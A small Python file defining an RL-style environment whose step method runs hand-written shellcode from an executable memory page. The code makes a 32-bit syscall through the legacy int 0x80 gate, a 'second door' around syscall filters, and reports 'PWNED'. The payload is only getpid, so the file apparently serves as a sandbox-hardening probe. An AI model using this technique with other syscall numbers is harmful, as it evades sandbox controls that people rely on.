# process
import ctypes, mmap



class Env:
    def reset(self, seed=None):
        return 'ready'

    def step(self, action):
        # int 0x80 with the 32-bit number of getpid: a second door with other numbers
        code = bytes([0xB8, 20, 0, 0, 0, 0xCD, 0x80, 0xC3])
        page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
        page.write(code)
        call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
        out = "PWNED pid %d by the old door" % call()
        return out, 0.0, True, False, {}
